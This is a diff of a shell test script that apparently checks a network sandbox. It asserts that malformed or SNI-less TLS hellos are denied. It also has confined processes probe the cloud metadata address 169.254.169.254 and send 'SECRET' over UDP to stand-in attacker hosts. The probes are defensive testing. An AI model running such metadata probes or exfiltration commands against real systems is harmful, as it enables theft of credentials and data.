@@ -28,6 +28,9 @@ slow=$!
 for a in "$OPENAI4" "$OPENAI6"; do
 	tap_import "$(confined names sh -c 'getent ahosts api.openai.com >/dev/null; exec python3 "$@"' \
 		- "$CLIENTS/hellos.py" api.openai.com "$a" 2>&1)"
+	for why in sni-missing sni-invalid tls-malformed unknown-protocol; do
+		audited "attacks 1, 22, 27: the reason $why" '"deny"' "$(reason $why)"
+	done
 done
 unseen "no hello of these arrived under another name" 'sni=(-|[^a]|a[^p])'
 
@@ -140,7 +143,7 @@ sniff_start first
 for _ in 1 2 3; do
 	confined names curl -sSm2 http://169.254.169.254/ >>"$WORLD/tmp/first" 2>&1
 	for a in "$EVIL4" "$EVIL6" "$ECHO4"; do
-		confined l4 bash -c 'echo SECRET >"/dev/udp/$0/7777"' "$a" 2>/dev/null
+		confined l4 bash -c 'exec 3<>"/dev/udp/$0/7777"; echo SECRET >&3; read -rt 2 -u 3' "$a" 2>/dev/null
 	done
 done
 sniff_stop first
